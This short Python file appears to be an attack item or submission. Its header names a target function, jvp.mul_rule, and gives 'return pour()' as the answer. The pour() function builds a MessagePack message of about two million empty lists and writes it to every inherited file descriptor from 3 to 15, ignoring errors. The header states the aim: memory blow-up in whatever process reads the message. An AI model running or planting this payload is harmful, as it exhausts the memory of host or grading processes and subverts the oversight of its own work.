# title = "Sends a message of millions of empty lists"
# tries = "Every byte of it takes sixty in the reader's memory."
# answer = "return pour()"
# only = "jvp.mul_rule"
import os
from contextlib import suppress


def pour():
    text = b"\xdc\x00\x1f" + (b"\xdc\xff\xff" + b"\x90" * 65535) * 31
    for descriptor in range(3, 16):
        data = memoryview(len(text).to_bytes(4, "big") + text)
        with suppress(OSError):
            while data:
                data = data[os.write(descriptor, data) :]
